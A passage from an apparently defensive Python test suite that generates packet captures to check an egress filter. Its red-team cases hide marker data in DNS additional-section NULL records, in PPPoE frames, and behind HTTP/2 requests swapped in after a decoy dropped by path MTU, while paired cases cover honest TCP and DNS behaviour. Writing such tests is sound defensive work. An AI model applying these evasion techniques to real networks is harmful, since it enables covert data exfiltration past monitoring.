        eth = bytes(l2(t.c, t.s, t.vlans))[:12] + b"\x88\x64"
        t.cap.emit(Ether(eth + ppp), 1000)
    return carrier_flow(n, 53223, 53223, False, send), {
        "leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S1, E2M)[0]]}


@case
def case_rt8b_pppoe_lcp_ok(n):
    """Must-allow twin of rt8b_pppoe_lcp_carrier: a PPPoE client's own control packets
    from inside during an allowed e2m session, as pppd sends them: an LCP Echo-Request
    and an Echo-Reply with the magic number alone, an LCP Configure-Request (MRU 1492,
    magic), a PAP Authenticate-Request whose peer-id holds the PASS marker, and an IPCP
    Configure-Request (address 0.0.0.0, two DNS servers). Each frame must reach the
    outside link whole."""
    marks = []

    def frame(t, proto, pkt):
        ppp = struct.pack("!BBHH", 0x11, 0, 0x1234, 2 + len(pkt)) + struct.pack("!H", proto) + pkt
        eth = bytes(l2(t.c, t.s, t.vlans))[:12] + b"\x88\x64"
        t.cap.emit(Ether(eth + ppp), 1000)
        return ppp

    def send(t, rec, i):
        t.raw(True, "PA", rec)
        if i == 0:
            frame(t, 0xc021, bytes([9, 1]) + struct.pack("!H", 8) + b"\x12\x34\x56\x78")
            frame(t, 0xc021, bytes([10, 7]) + struct.pack("!H", 8) + b"\x12\x34\x56\x78")
            frame(t, 0xc021, bytes([1, 2]) + struct.pack("!H", 14) + b"\x01\x04\x05\xd4"
                  + b"\x05\x06\x12\x34\x56\x78")
        elif i == 1:
            peer = passm(n)
            pap = bytes([1, 3]) + struct.pack("!H", 4 + 1 + len(peer) + 1 + 8) + bytes([len(peer)]) + peer \
                + bytes([8]) + b"s3cr3t!!"
            marks.append(frame(t, 0xc023, pap))
        else:
            opts = b"\x03\x06\x00\x00\x00\x00" + b"\x81\x06\x00\x00\x00\x00" + b"\x83\x06\x00\x00\x00\x00"
            frame(t, 0x8021, bytes([1, 4]) + struct.pack("!H", 4 + len(opts)) + opts)
    cap = carrier_flow(n, 53224, 53224, False, send)
    return cap, {"pass": marks, "replay_args": ["--inside-mac", mac_pair(S1, E2M)[0]]}


def rt8b_rr(name, rtype, rclass, ttl, rdata):
    return (b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\x00"
            + struct.pack("!HHIH", rtype, rclass, ttl, len(rdata)) + rdata)


def rt8b_query(qid, name, qtype, extra_rrs):
    hdr = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, len(extra_rrs))
    q = (b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\x00"
         + struct.pack("!HH", qtype, 1))
    return hdr + q + b"".join(extra_rrs)


@case
def case_rt8b_dns_query_rr_carrier(n):
    """(Red team round 8b) Queries to the resolver for the e2m name, each with one record
    in its additional section: type NULL (10), 900 bytes of RDATA, the marker. The name
    check reads names only and passes over RDATA; the message is well-formed to the byte.
    No stub resolver puts a record but OPT (and TSIG or SIG(0) for a signed one) in a
    query: a carrier of 900 bytes per query to the resolver's address, as
    dns_udp_trailer's trailing bytes were. Must not pass."""
    cap = Capture()
    for i in range(3):
        rr = rt8b_rr("x.%d.e2m.customs.example" % i, 10, 1, 0, leak(n) + prand("%s%d" % (n, i), 900))
        q = rt8b_query(0x5300 + i, E2M_NAME, 1, [rr])
        udp(cap, S1, 53220, RESOLVER, 53, q)
        a = bytes(DNS(id=0x5300 + i, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="A"),
                      an=DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=E2M)))
        udp(cap, RESOLVER, 53, S1, 53220, a, gap=2000)
    return cap, {"leak": [leak(n)]}


@case
def case_rt8b_dns_tcp_rr_carrier(n):
    """(Red team round 8b) rt8b_dns_query_rr_carrier over TCP to the resolver: a genuine
    query and answer, then three queries each with a 1400-byte NULL record (the marker)
    in the additional section, each answered. Every message is well-formed DNS to the
    byte. Must not pass."""
    cap = Capture()
    t = ETcp(cap, S1, 53222, RESOLVER, 53, isn=53222, rtt_us=2000)
    t.handshake()
    for i in range(4):
        qid = 0x5320 + i
        extra = [] if i == 0 else [rt8b_rr("x.%d.e2m.customs.example" % i, 10, 1, 0,
                                           leak(n) + prand("%s%d" % (n, i), 1400))]
        q = rt8b_query(qid, E2M_NAME, 1, extra)
        t.data(True, struct.pack("!H", len(q)) + q)
        a = bytes(DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="A"),
                      an=DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=E2M)))
        t.data(False, struct.pack("!H", len(a)) + a)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt8b_dns_tsig_ok(n):
    """(Red team round 8b) Must-allow twin of rt8b_dns_query_rr_carrier: TSIG-signed
    queries (RFC 8945; `dig -y`, nsupdate, and Windows' GSS-TSIG updates sign this way):
    an OPT record and a TSIG record (type 250, class ANY, hmac-sha256, a 32-byte MAC) in
    the additional section; the resolver's signed answers. A fix that refuses records in
    a query's additional section must keep OPT and TSIG."""
    cap = Capture()
    out = []
    for i in range(2):
        qid = 0x5310 + i
        opt = b"\x00" + struct.pack("!HHIH", 41, 1232, 0, 0)
        alg = b"\x0bhmac-sha256\x00"
        tsig = rt8b_rr("key.customs.example", 250, 255, 0,
                       alg + struct.pack("!HIH", 0, 1767225600 + i, 300) + struct.pack("!H", 32)
                       + prand("%s-mac%d" % (n, i), 32) + struct.pack("!HHH", qid, 0, 0))
        q = rt8b_query(qid, E2M_NAME, 1, [opt, tsig])
        udp(cap, S1, 53221, RESOLVER, 53, q)
        a = bytes(DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="A"),
                      an=DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=E2M)))
        # the answer, signed: its header's ARCOUNT 1 and the TSIG record after it
        atsig = rt8b_rr("key.customs.example", 250, 255, 0,
                        alg + struct.pack("!HIH", 0, 1767225600 + i, 300) + struct.pack("!H", 32)
                        + prand("%s-amac%d" % (n, i), 32) + struct.pack("!HHH", qid, 0, 0))
        a = a[:10] + struct.pack("!H", 1) + a[12:] + atsig
        udp(cap, RESOLVER, 53, S1, 53221, a, gap=2000)
        out += [q, a]
    return cap, {"pass": out}


# --- red team round 9c (the twentieth session): the request log (rlog.h)


def _rt9c_hstr(s):
    """An HPACK string literal without Huffman coding (7-bit prefix length)."""
    if len(s) < 127:
        return bytes([len(s)]) + s
    k, out = len(s) - 127, b"\x7f"
    while k >= 128:
        out += bytes([k & 0x7f | 0x80])
        k >>= 7
    return out + bytes([k]) + s


def _rt9c_h2_first(authority, marker, total):
    """The h2c preface, an empty SETTINGS and a HEADERS frame on stream 1 for
    authority, padded with x-pad headers to `total` bytes in all."""
    pre = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
    blk = h2_hb(authority, marker)
    need = total - len(pre) - 9 - len(blk)
    pad = b""
    ph = lambda L: b"\x00" + _rt9c_hstr(b"x-pad") + _rt9c_hstr(b"p" * L)
    while need - len(pad) > 320:
        pad += ph(300)
    rest = need - len(pad)
    pad += next(ph(L) for L in range(1, 400) if len(ph(L)) == rest)
    out = pre + h2_frame(1, 5, 1, blk + pad)
    assert len(out) == total, (len(out), total)
    return out


def _rt9c_icmp_mtu(cap, t, cport, base, plen):
    quoted = bytes(IP(src=O1, dst=SOC, flags="DF", len=40 + plen) / TCP(sport=cport, dport=80, seq=base,
                                                                      ack=t.sseq, flags="PA"))[:28]
    rtr = "10.20.0.1"
    cap.emit(l2(rtr, O1) / IP(src=rtr, dst=O1) / ICMP(type=3, code=4, nexthopmtu=1492) / Raw(quoted),
             2000)


def _rt9c_h2pk_pmtu(n, cport, evil):
    """h2c with prior knowledge: the first bytes (preface, SETTINGS, HEADERS for
    www.example.org) in one full-size DF segment that a smaller MTU past us drops
    (ICMP fragmentation needed); the client waits, then sends at the same place, in
    smaller segments, the same bytes (honest) or a HEADERS for m.vk.com (evil)."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 80, isn=cport * 7, rtt_us=20000)
    t.handshake()
    decoy = _rt9c_h2_first(b"www.example.org", b"decoy-" + b"d" * (len(leak(n)) + 1), 1460)
    real = (_rt9c_h2_first(b"m.vk.com", leak(n), 1460) if evil else decoy)
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base, ipkw={"flags": "DF"})
    _rt9c_icmp_mtu(cap, t, cport, base, 1460)
    t.raw(True, "PA", decoy, seq=base, ipkw={"flags": "DF"}, gap=220000)
    _rt9c_icmp_mtu(cap, t, cport, base, 1460)
    cap.idle(2)
    t.raw(True, "PA", real[:1452], seq=base, ipkw={"flags": "DF"})
    t.raw(True, "PA", real[1452:], seq=base + 1452, ipkw={"flags": "DF"})
    t.cseq = base + len(real)
    t.raw(False, "A")
    mark = leak(n) if evil else passm(n)
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88")
           + h2_frame(0, 1, 1, mark + prand(n, 200)))
    t.data(True, h2_frame(4, 1, 0, b"") + h2_frame(1, 5, 3, h2_hb(b"www.example.org", mark)))
    t.data(False, h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, b"ok"))
    t.close()
    return cap


@case
def case_rt9c_h2pk_pmtu_vk(n):
    """(Red team round 9c) Office h2c with prior knowledge: the preface and a HEADERS for
    www.example.org in a full-size DF segment, twice, that the uplink past us (MTU 1492)
    drops; the verdict comes while the server never had them; then the client sends a
    HEADERS for m.vk.com at their place in smaller segments. The first blocks are read
    in the first-bytes slot, whose bytes no request log keeps once it closes. Must drop
    (social)."""
    return _rt9c_h2pk_pmtu(n, 53400, True), {"leak": [leak(n)]}


@case
def case_rt9c_h2pk_pmtu_ok(n):
    """(Red team round 9c) Must-allow twin: the same DF segment dropped past us, then the
    same bytes again in two smaller segments (PMTU discovery, RFC 1191)."""
    return _rt9c_h2pk_pmtu(n, 53401, False), {"pass": [passm(n)]}


def _rt9c_pmtu_decoy(n, cport, decoy):
    """After ka_flow's four answered requests, a 1460-byte DF decoy dropped past us by a
    smaller MTU (ICMP fragmentation needed), then a GET for m.vk.com padded to the same
    length at its place in two smaller segments."""
    cap, t = ka_flow(n, cport)
    real = _rtk_vk_req(n)
    real = real[:-2] + b"X-Pad: " + b"q" * (1460 - len(real) - 9) + b"\r\n\r\n"
    assert len(real) == len(decoy) == 1460
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base, ipkw={"flags": "DF"})
    _rt9c_icmp_mtu(cap, t, cport, base, 1460)
    t.raw(True, "PA", real[:1452], seq=base, ipkw={"flags": "DF"})
    t.raw(True, "PA", real[1452:], seq=base + 1452, ipkw={"flags": "DF"})
    t.cseq = base + len(real)
    t.raw(False, "A")
    _vk_answer(t, n)
    t.close()
    return cap


@case
def case_rt9c_ws_decoy_vk(n):
    """(Red team round 9c) The decoy is a GET for www.example.org asking for a WebSocket
    upgrade, with frame bytes behind it that start no request: a tunnel, the reading goes
    off (LOG-only path); the server never had it and reads the GET for m.vk.com sent at
    its place. Must drop (social)."""
    head = (b"GET /ws HTTP/1.1\r\nHost: www.example.org\r\nUpgrade: websocket\r\n"
            b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
            b"Sec-WebSocket-Version: 13\r\n\r\n")
    decoy = head + b"\x81\xfe" + b"w" * (1460 - len(head) - 2)
    return _rt9c_pmtu_decoy(n, 53410, decoy), {"leak": [leak(n)]}


@case
def case_rt9c_gib_decoy_vk(n):
    """(Red team round 9c) The decoy is a POST for www.example.org declaring a body of
    2 GiB (the reading goes off), dropped past us; the GET for m.vk.com at its place.
    Must drop (social)."""
    head = b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: 2147483648\r\n\r\n"
    decoy = head + b"b" * (1460 - len(head))
    return _rt9c_pmtu_decoy(n, 53411, decoy), {"leak": [leak(n)]}


@case
def case_rt9c_h2_upload_early_loss_ok(n):
    """(Red team round 9c) Must-allow: office h2c with prior knowledge (a gRPC client in
    clear), one request answered (the flow still undecided: before the verdict a bare
    ACK of the server releases nothing, judge_tcp returns before judge_http_window),
    then an upload on stream 3: HEADERS and 12 segments of
    DATA frames in one flight (12 KB, under the server's window); the tenth is lost past
    us, the server ACKs the ninth (duplicate ACKs for the rest), the client sends the
    tenth again, the same bytes. h2c bytes are all logged: past 8 KiB they become an
    unverifiable range, which the honest retransmission touches."""
    cap = Capture()
    t = ETcp(cap, O1, 53420, SOC, 80, isn=53420 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
           + h2_frame(1, 5, 1, h2_hb(b"www.example.org", b"one")))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88")
           + h2_frame(0, 1, 1, b"ok"))
    t.data(True, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, h2_hb(b"www.example.org", b"up")))
    segs = []
    for i in range(12):
        body = prand("%s-%d" % (n, i), 991 - len(passm(n))) + passm(n)
        segs.append(h2_frame(0, 1 if i == 11 else 0, 3, body))
    base = t.cseq
    off = 0
    offs = []
    for i, s in enumerate(segs):
        offs.append(off)
        t.raw(True, "PA", s, seq=base + off, gap=300)
        off += len(s)
        if i == 8:
            t.raw(False, "A", ack=base + off)
        elif i > 9:
            t.raw(False, "A", ack=base + offs[9])
    t.raw(True, "PA", segs[9], seq=base + offs[9], gap=20000)
    t.cseq = base + off
    t.raw(False, "A")
    t.data(False, h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n) + b"done"))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt9c_h2_upload_loss_ok(n):
    """(Red team round 9c) Must-allow: office h2c with prior knowledge, decided long
    before (h2c_long: 40 streams for www.example.org), then an upload on stream 81: 12
    segments of DATA frames in one flight (12 KB, inside the server's window), the ACKs
    one RTT later: the server has all but the tenth (lost past us), ACKs the ninth and
    sends duplicate ACKs; the client sends the tenth again, the same bytes. Every h2c byte
    is logged; past 8 KiB they are an unverifiable range the honest copy touches."""
    def last(t):
        t.data(True, h2_frame(1, 4, 81, h2_idx_block(b"www.example.org", b"up", True)))
        segs = [h2_frame(0, 1 if i == 11 else 0, 81,
                         prand("%s-u%d" % (n, i), 991 - len(passm(n))) + passm(n)) for i in range(12)]
        base = t.cseq
        offs = [sum(len(x) for x in segs[:i]) for i in range(12)]
        for i, sg in enumerate(segs):
            t.raw(True, "PA", sg, seq=base + offs[i], gap=300)
        t.raw(False, "A", ack=base + offs[9], gap=20000)
        for i in range(10, 12):
            t.raw(False, "A", ack=base + offs[9], gap=300)
        t.raw(True, "PA", segs[9], seq=base + offs[9], gap=1000)
        t.cseq = base + offs[11] + len(segs[11])
        t.raw(False, "A")
        t.data(False, h2_frame(1, 4, 81, b"\x88") + h2_frame(0, 1, 81, passm(n) + b"done"))
    return h2c_long(n, 53424, last, passm(n)), {"pass": [passm(n)]}


@case
def case_rt9c_chunked_loss_ok(n):
    """(Red team round 9c) Must-allow: office HTTP, a chunked upload of 200-byte chunks
    (a log shipper, curl -T - from a pipe) on a kept-alive connection: 14 segments of
    1000 bytes in one flight, the eleventh lost past us and sent again, the same bytes.
    Chunk-size lines lie inside each segment, so most bytes are logged; past 8 KiB they
    become an unverifiable range."""
    cap, t = ka_flow(n, 53421, reqs=1)
    t.data(True, b"POST /logs HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: chunked\r\n"
           b"Content-Type: text/plain\r\n\r\n")
    body = b""
    i = 0
    while len(body) < 14000:
        d = prand("%s-c%d" % (n, i), 200 - len(passm(n))) + passm(n)
        body += b"c8\r\n" + d + b"\r\n"
        i += 1
    body = body[:14000]
    # end the last chunk where it stops
    k = body.rfind(b"c8\r\n")
    body = body[:k] + b"0\r\n\r\n"
    base = t.cseq
    segs = [(o, body[o:o + 1000]) for o in range(0, len(body), 1000)]
    for j, (o, s) in enumerate(segs):
        t.raw(True, "PA", s, seq=base + o, gap=300)
    t.raw(False, "A", ack=base + segs[10][0], gap=20000)
    for j in range(11, len(segs)):
        t.raw(False, "A", ack=base + segs[10][0], gap=300)
    t.raw(True, "PA", segs[10][1], seq=base + segs[10][0], gap=20000)
    t.cseq = base + len(body)
    t.raw(False, "A")
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt9c_bighead_loss_ok(n):
    """(Red team round 9c) Must-allow: office HTTP, a GET for www.example.org with 10 KB
    of cookies (nginx takes 32 KiB of head), in 8 segments in one flight; the seventh is
    lost past us and sent again, the same bytes. Past 8 KiB the head is an unverifiable
    range that the honest retransmission touches."""
    cap, t = ka_flow(n, 53422, reqs=1)
    head = b"GET /big HTTP/1.1\r\nHost: www.example.org\r\n"
    for i in range(10):
        head += b"Cookie: c%d=" % i + prand("%s-k%d" % (n, i), 990) + b"\r\n"
    head += b"X-Mark: " + passm(n) + b"\r\n\r\n"
    base = t.cseq
    segs = [(o, head[o:o + 1400]) for o in range(0, len(head), 1400)]
    for j, (o, s) in enumerate(segs):
        t.raw(True, "PA", s, seq=base + o, gap=300)
    t.raw(False, "A", ack=base + segs[6][0], gap=20000)
    for j in range(7, len(segs)):
        t.raw(False, "A", ack=base + segs[6][0], gap=300)
    t.raw(True, "PA", segs[6][1], seq=base + segs[6][0], gap=20000)
    t.cseq = base + len(head)
    t.raw(False, "A")
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt9c_coalesce_retx_ok(n):
    """(Red team round 9c) Must-allow: office HTTP, three pipelined GETs for
    www.example.org in three segments; the second and third are lost past us, the server
    ACKs the first, and the client sends both again coalesced in one segment (Linux
    tcp_retrans_try_collapse), then PMTU-resegmented copies of the same bytes again."""
    cap, t = ka_flow(n, 53423, reqs=1)
    reqs = [b"GET /p%d HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: %s\r\nX-Pad: %s\r\n\r\n"
            % (i, passm(n), prand("%s-p%d" % (n, i), 300)) for i in range(3)]
    base = t.cseq
    o = 0
    offs = []
    for r in reqs:
        offs.append(o)
        t.raw(True, "PA", r, seq=base + o, gap=300)
        o += len(r)
    t.raw(False, "A", ack=base + offs[1])
    t.raw(False, "A", ack=base + offs[1])
    both = reqs[1] + reqs[2]
    t.raw(True, "PA", both, seq=base + offs[1], gap=20000)
    t.raw(True, "PA", both[:100], seq=base + offs[1], gap=20000)
    t.raw(True, "PA", both[100:500], seq=base + offs[1] + 100, gap=300)
    t.cseq = base + o
    t.raw(False, "A")
    for _ in range(3):
        _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


# --- red team round 9d (rt9d_): honest stacks against the stricter option, frame and
# UDP rules (TCP options held to their kinds and places, SACK blocks to the peer's
# bytes, MPTCP to a connection that agreed to it, frames cut at the datagram's end, UDP
# lengths), and carriers those rules leave (ports 53600-53799)

class Rt9dTcp(ETcp):
    """One real stack's connection: its SYN's and SYN-ACK's options as given, timestamps
    on every later segment when both offered them (each side's clock ticking), and
    sequence numbers that wrap at 2^32 (masked on the wire)."""

    def __init__(self, cap, c, cport, s, isn, syn_opts, synack_opts, ts=False, sisn=None,
                 sport=443, vlans=()):
        super().__init__(cap, c, cport, s, sport, vlans=vlans, isn=isn, rtt_us=20000)
        if sisn is not None:
            self.sseq = sisn
        self.syn_opts, self.synack_opts, self.ts_on = syn_opts, synack_opts, ts
        self.ts = {True: 700000, False: 3000000}

    def raw(self, from_client, flags, payload=b"", seq=None, ack=None, **kw):
        if seq is None:
            seq = self.cseq if from_client else self.sseq
        if ack is None:
            ack = self.sseq if from_client else self.cseq
        return ETcp.raw(self, from_client, flags, payload, seq=seq & M32, ack=ack & M32, **kw)

    def tsopt(self, from_client):
        v = self.ts[from_client]
        self.ts[from_client] += 3
        return ("Timestamp", (v, self.ts[not from_client] - 3))

    def opts(self, from_client, extra=()):
        o = [("NOP", None), ("NOP", None), self.tsopt(from_client)] if self.ts_on else []
        return o + list(extra)

    def handshake(self, gap=None):
        self.raw(True, "S", options=self.syn_opts(self), gap=gap)
        self.cseq += 1
        self.raw(False, "SA", options=self.synack_opts(self))
        self.sseq += 1
        self.raw(True, "A", options=self.opts(True))

    def seg(self, from_client, payload, seq=None, flags="PA", extra=(), gap=None, **kw):
        self.raw(from_client, flags, payload, seq=seq, options=self.opts(from_client, extra),
                 gap=gap, **kw)

    def data(self, from_client, payload, gap=None):
        self.seg(from_client, payload, gap=gap)
        if from_client:
            self.cseq += len(payload)
        else:
            self.sseq += len(payload)
        self.ack(not from_client)

    def ack(self, from_client, sack=None, ack=None, gap=None):
        extra = []
        if sack:
            extra = [("NOP", None), ("NOP", None),
                     ("SAck", tuple(x & M32 for b in sack for x in b))]
        self.raw(from_client, "A", ack=ack, options=self.opts(from_client, extra), gap=gap)

    def close(self, gap=None):
        self.seg(True, b"", flags="FA", gap=gap)
        self.cseq += 1
        self.seg(False, b"", flags="FA")
        self.sseq += 1
        self.ack(True)

    def download(self, data, lost, mss=1400, fin=False, dup=()):
        """The server sends data in segments of mss (and its FIN after them with fin);
        those whose index is in lost are lost between aduana and the client (aduana saw
        them). The client acknowledges each segment it gets, with SACK blocks for what
        it holds past a hole (RFC 2018: the newest block first); then the server sends
        the lost ones again, and the client acknowledges each. dup: indexes the server
        sends again spuriously right after the first pass (the client answers with a
        D-SACK block, RFC 2883)."""
        base = self.sseq
        segs = [(base + o, data[o:o + mss]) for o in range(0, len(data), mss)]
        end = base + len(data)
        if fin:
            segs.append((end, b"FIN"))
        got = []

        def acknowledge(newest, dsack=None):
            got.sort()
            cum = base
            blocks = []
            for a, b in got:
                if a <= cum:
                    cum = max(cum, b)
                elif blocks and a <= blocks[-1][1]:
                    blocks[-1][1] = max(blocks[-1][1], b)
                else:
                    blocks.append([a, b])
            blocks.sort(key=lambda x: not (x[0] <= newest < x[1]))
            sack = ([dsack] if dsack else []) + [tuple(x) for x in blocks]
            self.ack(True, sack=sack[:3 if self.ts_on else 4] or None, ack=cum)

        def send(i):
            s, d = segs[i]
            if d == b"FIN":
                self.raw(False, "FA", seq=s, options=self.opts(False), gap=300)
                return s, s + 1
            self.seg(False, d, seq=s, gap=300)
            return s, s + len(d)
        for i in range(len(segs)):
            rng = send(i)
            if i in lost:
                continue
            got.append(rng)
            acknowledge(rng[0])
        for i in dup:
            rng = send(i)
            acknowledge(rng[0], dsack=rng)
        for i in sorted(lost):
            rng = send(i)
            got.append(rng)
            acknowledge(rng[0])
        self.sseq = end + (1 if fin else 0)


def rt9d_open(t, n):
    """The e2m session up to the allow and one exchange each way."""
    t.handshake()
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, tls_appdata(n + "req", 180))
    t.data(False, tls_appdata(n + "resp", 700))


def rt9d_linux_syn(t):
    return [("MSS", 1460), ("SAckOK", b""), t.tsopt(True), ("NOP", None), ("WScale", 7)]


def rt9d_linux_synack(t):
    return [("MSS", 1460), ("SAckOK", b""), t.tsopt(False), ("NOP", None), ("WScale", 7)]


@case
def case_rt9d_win_sack_ok(n):
    """(Red team round 9d) Windows 10/11 to the e2m endpoint: its SYN's options (MSS,
    NOP, window scale 8, NOP, NOP, SACK permitted; no timestamps), a Linux server's
    SYN-ACK without timestamps. A download of two records in 1400-byte segments, some
    lost on the inside LAN after aduana: the client's ACKs carry NOP, NOP and one or two
    SACK blocks (the right one ending at the server's next byte), the server sends the
    holes again. Then a record each way with the marker. Nothing may be dropped."""
    cap = Capture()
    t = Rt9dTcp(cap, S1, 53600, E2M, 53600,
                lambda t: [("MSS", 1460), ("NOP", None), ("WScale", 8), ("NOP", None), ("NOP", None),
                           ("SAckOK", b"")],
                lambda t: [("MSS", 1460), ("NOP", None), ("NOP", None), ("SAckOK", b""), ("NOP", None),
                           ("WScale", 7)])
    rt9d_open(t, n)
    t.download(tls_appdata(n + "d1", 9000), lost={2})
    t.download(tls_appdata(n + "d2", 11000), lost={1, 4, 5})
    t.data(True, marked_record(passm(n), n + "rq", 300))
    t.data(False, marked_record(passm(n) + b"srv", n + "rs", 900))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt9d_upload_sack_ok(n):
    """(Red team round 9d) The server's SACK blocks: the Windows client of rt9d_win_sack_ok
    uploads a 12000-byte record in 1400-byte segments, two of them lost past aduana on
    the way to the server; the server's (Linux, no timestamps: the client offered none)
    ACKs carry SACK blocks of the client's bytes, the last ending at its next byte; the
    client sends the holes again. Nothing may be dropped."""
    cap = Capture()
    t = Rt9dTcp(cap, S1, 53612, E2M, 53612,
                lambda t: [("MSS", 1460), ("NOP", None), ("WScale", 8), ("NOP", None), ("NOP", None),
                           ("SAckOK", b"")],
                lambda t: [("MSS", 1460), ("NOP", None), ("NOP", None), ("SAckOK", b""), ("NOP", None),
                           ("WScale", 7)])
    rt9d_open(t, n)
    data = marked_record(passm(n), n + "up", 12000)
    base = t.cseq
    segs = [(base + o, data[o:o + 1400]) for o in range(0, len(data), 1400)]
    lost = {2, 5}
    got = []

    def answer():
        got.sort()
        cum, blocks = base, []
        for a, b in got:
            if a <= cum:
                cum = max(cum, b)
            elif blocks and a <= blocks[-1][1]:
                blocks[-1][1] = max(blocks[-1][1], b)
            else:
                blocks.append([a, b])
        blocks.reverse()
        t.ack(False, sack=[tuple(x) for x in blocks][:4] or None, ack=cum)
    for i, (s, d) in enumerate(segs):
        t.seg(True, d, seq=s, gap=300)
        if i not in lost:
            got.append((s, s + len(d)))
            answer()
    for i in sorted(lost):
        s, d = segs[i]
        t.seg(True, d, seq=s, gap=300)
        got.append((s, s + len(d)))
        answer()
    t.cseq = base + len(data)
    t.data(False, marked_record(passm(n) + b"srv", n + "rs", 900))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt9d_mac_sack3_ok(n):
    """(Red team round 9d) macOS to the e2m endpoint: its SYN (MSS, NOP, window scale 6,
    NOP, NOP, timestamps, SACK permitted, EOL and a zero to the word), timestamps on
    every segment. A download with three holes made on the inside LAN: the client's ACKs
    carry NOP, NOP, timestamps, NOP, NOP and up to three SACK blocks (40 bytes of
    options, the most with timestamps). Nothing may be dropped."""
    cap = Capture()
    t = Rt9dTcp(cap, S1, 53601, E2M, 53601,
                lambda t: [("MSS", 1460), ("NOP", None), ("WScale", 6), ("NOP", None), ("NOP", None),
                           t.tsopt(True), ("SAckOK", b""), ("EOL", None)],
                rt9d_linux_synack, ts=True)
    rt9d_open(t, n)
    t.download(tls_appdata(n + "d1", 14000), lost={1, 3, 5, 7})
    t.data(True, marked_record(passm(n), n + "rq", 300))
    t.data(False, marked_record(passm(n) + b"srv", n + "rs", 900))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt9d_dsack_ok(n):
    """(Red team round 9d) Linux with D-SACK (RFC 2883, net.ipv4.tcp_dsack=1, the
    default): the client's ACKs of a download are lost on the way out (after aduana),
    the server's RTO sends the first segments again, and the client's dup ACKs carry a
    D-SACK block below their ACK. Then a hole on the inside LAN and a spurious resend of
    a segment past it: a D-SACK block above the ACK, then the SACK block holding it.
    Nothing may be dropped."""
    cap = Capture()
    t = Rt9dTcp(cap, S1, 53602, E2M, 53602, rt9d_linux_syn, rt9d_linux_synack, ts=True)
    rt9d_open(t, n)
    t.download(tls_appdata(n + "d1", 5000), lost=set(), dup=(0, 1))
    t.download(tls_appdata(n + "d2", 8000), lost={1}, dup=(3,))
    t.data(True, marked_record(passm(n), n + "rq", 300))
    t.data(False, marked_record(passm(n) + b"srv", n + "rs", 900))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt9d_sack_fin_ok(n):
    """(Red team round 9d) The server ends its answer with a FIN; a segment before it is
    lost on the inside LAN: Linux queues the FIN out of order and its SACK block covers
    the FIN (end_seq counts it: the right edge is one past the server's last byte).
    Then the hole is filled, the client acknowledges the FIN, sends its close_notify
    and closes. Nothing may be dropped."""
    cap = Capture()
    t = Rt9dTcp(cap, S1, 53603, E2M, 53603, rt9d_linux_syn, rt9d_linux_synack, ts=True)
    rt9d_open(t, n)
    t.data(True, marked_record(passm(n), n + "rq", 300))
    t.download(marked_record(passm(n) + b"srv", n + "rs", 6000) + tls_appdata(n + "cn", 19),
               lost={2}, fin=True)
    cn = tls_appdata(n + "ccn", 19)
    t.seg(True, cn, flags="FPA")
    t.cseq += len(cn) + 1
    t.ack(False)
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt9d_sack_wrap_ok(n):
    """(Red team round 9d) The server's sequence numbers wrap around 2^32 in the middle
    of a download with two holes made on the inside LAN: the client's SACK blocks lie
    on both sides of the wrap and one runs across it (left edge near 2^32, right edge
    small). Linux compares with before()/after(). Nothing may be dropped."""
    cap = Capture()
    flight = len(server_hello_flight(n)) + 700
    t = Rt9dTcp(cap, S1, 53604, E2M, 53604, rt9d_linux_syn, rt9d_linux_synack, ts=True,
                sisn=(1 << 32) - 1 - flight - 700 - 3500)
    rt9d_open(t, n)
    t.download(tls_appdata(n + "d1", 12000), lost={1, 4})
    t.data(True, marked_record(passm(n), n + "rq", 300))
    t.data(False, marked_record(passm(n) + b"srv", n + "rs", 900))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt9d_mptcp_v0_ok(n):
    """(Red team round 9d) An MPTCP v0 connection (RFC 6824; iOS and macOS's MPTCP for
    Siri/Maps, the out-of-tree Linux kernel): MP_CAPABLE version 0 with the checksum
